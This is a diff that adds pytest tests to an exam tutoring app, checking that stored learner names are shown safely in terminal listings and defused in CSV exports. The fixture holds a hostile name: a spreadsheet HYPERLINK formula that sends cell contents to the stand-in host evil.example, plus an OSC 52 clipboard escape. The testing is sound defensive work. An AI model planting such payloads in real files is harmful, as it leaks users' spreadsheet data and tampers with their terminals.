@@ -501,3 +501,51 @@ def test_a_name_is_refused_by_the_session_itself(course: Course, store: Any) -> 
     with pytest.raises(ExamError, match="U\\+0007 \\(BEL\\)"):
         ExamSession.begin(store, course, spec_for(course, questions=2), "A\x07da", KEY)
     assert list(store.exams.all_attempts()) == []
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)\x1b]52;c;aGk=\x07'
+
+
+@pytest.fixture
+def with_hostile_name(course: Course, tmp_path: Path) -> Path:
+    """A store whose finished record names its learner as a formula with an escape in it,
+    as an older version or another tool could have written it."""
+    data = tmp_path / "data"
+    store = ProgressStore.open(data, "tester")
+    record = finished_record(course, store, name="Ada")
+    store._db.execute("UPDATE exam_attempts SET learner = ?, record = ?",
+                      (HOSTILE, json.dumps({**record, "learner": HOSTILE})))
+    store._db.commit()
+    store.close()
+    return data
+
+
+def test_results_list_shows_control_characters_as_glyphs(
+        with_hostile_name: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A stored name holding ESC and BEL is listed with both visible, none sent raw."""
+    code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_hostile_name))
+    assert code == 0 and "\x1b" not in out and "\x07" not in out
+    assert '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇' in out
+
+
+def test_csv_export_neutralises_formulas_and_controls(
+        with_hostile_name: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A name a spreadsheet would run as a formula is written as text (OWASP CSV Injection)."""
+    code, out, _ = run(capsys, "results", "export", "--format", "csv",
+                       "--data-dir", str(with_hostile_name))
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and "\x1b" not in out
+    assert row["learner"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇'
+    assert row["correct"] == "10" and row["result"] == "failed"  # the rest is unchanged
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "␍x"), ("Ada Lovelace", "Ada Lovelace"), ("a=b", "a=b"),
+    (-1, -1), (66.7, 66.7),
+])
+def test_csv_cells(value: Any, cell: Any) -> None:
+    """Text starting with = + - @ or a tab gets a quote; numbers and other text do not."""
+    from tutor.exam.export import csv_cell
+
+    assert csv_cell(value) == cell
